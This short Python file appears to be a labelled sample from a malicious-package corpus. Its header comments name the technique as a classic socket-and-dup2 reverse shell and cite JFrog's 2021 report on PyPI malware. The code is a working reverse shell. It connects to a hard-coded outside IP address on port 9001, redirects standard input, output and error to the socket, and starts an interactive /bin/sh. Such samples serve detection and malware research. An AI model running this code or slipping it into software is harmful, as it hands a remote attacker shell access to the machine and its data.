# technique: classic socket + dup2 + /bin/sh reverse shell
# class: reverse-shell
# source: JFrog, "10Cent10"/"importantpackage" family (2021): reverse shells in PyPI packages
# declares: network, subprocess
import os
import socket
import subprocess


def connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("45.61.136.11", 9001))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    subprocess.call(["/bin/sh", "-i"])
